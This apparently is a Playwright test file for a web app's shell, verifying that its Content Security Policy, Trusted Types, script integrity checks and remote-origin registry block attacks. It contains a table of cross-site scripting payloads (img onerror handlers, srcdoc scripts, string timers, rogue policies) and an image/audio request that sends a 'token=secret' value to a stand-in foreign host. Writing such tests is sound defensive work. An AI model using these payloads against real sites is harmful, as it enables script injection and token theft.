import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, normalize } from 'node:path';
import type { Page } from '@playwright/test';
import { localSite } from '../../../scripts/site/index.ts';
import { type Site, test as siteTest } from '../../fixtures/site.ts';
import { expect, test } from '../../fixtures/test.ts';

/** Changes the site's page on its way to the browser; its headers stay the same. */
async function changePage(page: Page, change: (html: string) => string): Promise<void> {
  await page.route('/', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: change(await response.text()) });
  });
}

const DATA = /(<script type="application\/json" id="prelude-page">)(.*?)(<\/script>)/s;

/** Changes the configuration that the page passes to the shell. */
const changePageData =
  <Data>(change: (data: Data) => Data) =>
  (html: string): string =>
    html.replace(DATA, (_all, open: string, json: string, close: string) => {
      const data = change(JSON.parse(json) as Data);
      return open + JSON.stringify(data).replaceAll('<', '\\u003c') + close;
    });

/** The registry's entry of a remote, as far as these tests change it. */
interface Registration {
  readonly name: string;
  readonly entry: string;
  readonly integrity: Readonly<Record<string, string>>;
}

interface PageData {
  readonly remotes: readonly Registration[];
}

/** The browser's Trusted Types API. */
interface TypedWindow {
  readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

/** A registry entry of a remote whose files are on `origin`. */
function movedTo(origin: string, registration: Registration): Registration {
  const there = (url: string): string => origin + new URL(url).pathname;
  return {
    ...registration,
    entry: there(registration.entry),
    integrity: Object.fromEntries(
      Object.entries(registration.integrity).map(([url, hash]) => [there(url), hash]),
    ),
  };
}

const unavailable = (page: Page, label: string) =>
  page.getByRole('alert').filter({ hasText: `${label} is not available right now.` });

const ELSEWHERE = 'https://elsewhere.example';

/** The requests to the foreign host so far; they are aborted, as there is no network in tests. */
async function askedOf(page: Page): Promise<readonly string[]> {
  const asked: string[] = [];
  await page.route(`${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

/** Attempts of an attacker who controls a text that the page's code handles; each is made in the page. */
const BREACHES: Readonly<Record<string, () => unknown>> = {
  'markup of an element': () =>
    (document.body.innerHTML = '<img src="/gone.png" onerror="window.ran = true">'),
  'markup next to an element': () =>
    document.body.insertAdjacentHTML('beforeend', '<img src="/gone.png" onerror="window.ran = 1">'),
  'a frame with markup': () =>
    (document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'),
  'a parsed page': () => new DOMParser().parseFromString('<b>Hear</b>', 'text/html'),
  'a text for a script': () => (document.createElement('script').text = 'window.ran = true'),
  // The type does not allow strings any more, browsers do.
  'a text for later': () => setTimeout('window.ran = true' as unknown as () => void),
  'a handler': () => document.body.setAttribute('onclick', 'window.ran = true'),
  'a script of elsewhere': () =>
    (document.createElement('script').src = 'https://elsewhere.example/script.js'),
  'a script that the registry does not name': () =>
    (document.createElement('script').src = '/shell/unknown.js'),
  'a script of Google’s, where no real project is configured': () =>
    (document.createElement('script').src = 'https://apis.google.com/js/api.js'),
  'a policy that lets everything through': () =>
    (window as unknown as TypedWindow).trustedTypes.createPolicy('own', {
      createHTML: (text: string) => text,
    }),
  'a policy in the shell’s place': () =>
    (window as unknown as TypedWindow).trustedTypes.createPolicy('default', {
      createHTML: (text: string) => text,
    }),
};

test('in the page no text runs as markup or code, no script without its integrity, and no data leaves', async ({
  page,
  asGuest,
  home,
  expectedErrors,
}) => {
  expectedErrors.push(/security policy/i, /Trusted/, /integrity/i);
  const asked = await askedOf(page);
  await asGuest();
  await expect(home.greeting).toBeVisible();
  for (const [what, act] of Object.entries(BREACHES))
    await test.step(what, async () => {
      await expect(page.evaluate(act)).rejects.toThrow(/Trusted|No integrity is known for/);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    });

  await test.step('a script of the product, with and without its integrity', async () => {
    const outcome = await page.evaluate(async () => {
      const { remotes } = JSON.parse(
        document.getElementById('prelude-page')?.textContent ?? '',
      ) as PageData;
      const [known] = remotes;
      const [url = '', hash = ''] = Object.entries(known?.integrity ?? {})[0] ?? [];
      const load = (integrity: string): Promise<string> =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = url;
          script.crossOrigin = 'anonymous';
          script.integrity = integrity;
          script.addEventListener('load', () => resolve('ran'));
          script.addEventListener('error', () => resolve('refused'));
          document.head.append(script);
        });
      return { without: await load(''), with: await load(hash) };
    });
    expect(outcome).toEqual({ without: 'refused', with: 'ran' });
  });

  await test.step('pictures and sound of a foreign host', async () => {
    const blocked = await page.evaluate(async (elsewhere) => {
      const directives: string[] = [];
      const both = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          // The policy also reports the attempts before.
          if (!/^(img|media)-src$/.test(effectiveDirective)) return;
          if (directives.push(effectiveDirective) === 2) resolve();
        });
      });
      new Image().src = `${elsewhere}/?token=secret`;
      new Audio().src = `${elsewhere}/?token=secret`;
      await both;
      return directives;
    }, ELSEWHERE);
    expect([...blocked].sort()).toEqual(['img-src', 'media-src']);
    expect(asked).toEqual([]);
  });
});

test('the shell does not run if its page lacks the hashes, and the page says so', async ({
  page,
  expectedErrors,
}) => {
  expectedErrors.push(/integrity/i);
  await changePage(page, (html) => html.replace(/(<script src[^>]*?) integrity="[^"]*"/g, '$1'));
  await page.goto('/');
  const words = page.getByRole('heading', { name: 'Something went wrong' });
  await expect(words).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
});

/** A server that serves remotes' files only. */
interface RemoteSite {
  readonly origin: string;
  /** The paths that were requested from it. */
  readonly asked: readonly string[];
}

/** What a server of a remote's files says to pages of other origins: they may read them. */
const REMOTE_SITE_HEADERS = {
  'access-control-allow-origin': '*',
  'cross-origin-resource-policy': 'cross-origin',
};

/** Serves the site's files on a separate origin, with the headers of such a site. */
async function serveRemoteFiles(use: (site: RemoteSite) => Promise<void>): Promise<void> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const path = normalize(request.url ?? '/');
    asked.push(path);
    const type = path.endsWith('.css') ? 'text/css' : 'text/javascript';
    readFile(join(localSite().www, path)).then(
      (content) =>
        response.writeHead(200, { ...REMOTE_SITE_HEADERS, 'content-type': type }).end(content),
      () => response.writeHead(404, REMOTE_SITE_HEADERS).end(),
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  await use({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked });
  server.close();
  server.closeAllConnections();
}

interface SpreadSites {
  /** The site whose page says that the player's files are on `playerSite`. */
  readonly site: Site;
  readonly playerSite: RemoteSite;
  /** The same files on an origin that the configuration does not name. */
  readonly strangeSite: RemoteSite;
}

const spreadTest = siteTest.extend<SpreadSites>({
  // Playwright reads the fixtures' dependencies from the pattern of the first parameter.
  // eslint-disable-next-line no-empty-pattern
  playerSite: ({}, use) => serveRemoteFiles(use),
  // eslint-disable-next-line no-empty-pattern
  strangeSite: ({}, use) => serveRemoteFiles(use),
  site: async ({ openSite, playerSite }, use) => {
    const remoteOrigins = { player: playerSite.origin };
    await use(await openSite({ config: { auth: null, remoteOrigins } }));
  },
  baseURL: async ({ site }, use) => {
    await use(site.url);
  },
});

spreadTest.describe('a remote on a separate origin', () => {
  spreadTest(
    'is loaded from the configured origin, and the music plays',
    async ({ page, asGuest, home, player, playerSite, site }) => {
      // The page's server has these files as well: none may be loaded from it.
      await page.route(`${site.url}/remotes/player/**`, (route) => route.abort());
      await asGuest();
      await home.playButtons('Trending Now').first().click();
      await player.expectSoundToAdvance();
      expect(playerSite.asked.length).toBeGreaterThan(0);
      expect(playerSite.asked.filter((path) => !path.startsWith('/remotes/player/'))).toEqual([]);
      expect(new Set(playerSite.asked).size, 'preloads are used: nothing comes twice').toBe(
        playerSite.asked.length,
      );
    },
  );

  spreadTest(
    'that is not configured is refused by the shell, which requests no file of it, and by the browser',
    async ({ page, asGuest, home, site, strangeSite, expectedErrors }) => {
      expectedErrors.push(/^\[player\]/, /security policy/i);
      const moved = changePageData<PageData>((data) => ({
        ...data,
        remotes: data.remotes.map((remote) =>
          remote.name === 'player' ? movedTo(strangeSite.origin, remote) : remote,
        ),
      }));
      site.changePage = (html) => moved(html.replace(/<link rel="preload"[^>]*>/g, ''));
      await asGuest();
      await expect(unavailable(page, 'The player')).toBeVisible();
      await expect(unavailable(page, 'The player').getByRole('button')).toHaveCount(0);
      await expect(home.greeting).toBeVisible();

      const said = page.waitForEvent('console', (message) =>
        message.text().startsWith(`The security policy blocked ${strangeSite.origin}`),
      );
      site.changePage = (html) => {
        const [, file = '', hash = ''] =
          /href="[^"]*(\/remotes\/player\/[^"]+\.js)"[^>]* integrity="([^"]+)"/.exec(html) ?? [];
        const script = `<script src="${strangeSite.origin}${file}" integrity="${hash}" crossorigin="anonymous"></script>`;
        return html.replace('</head>', `${script}</head>`);
      };
      await page.goto('/');
      expect((await said).text()).toContain('by script-src-elem');
      expect(strangeSite.asked).toEqual([]);
    },
  );
});
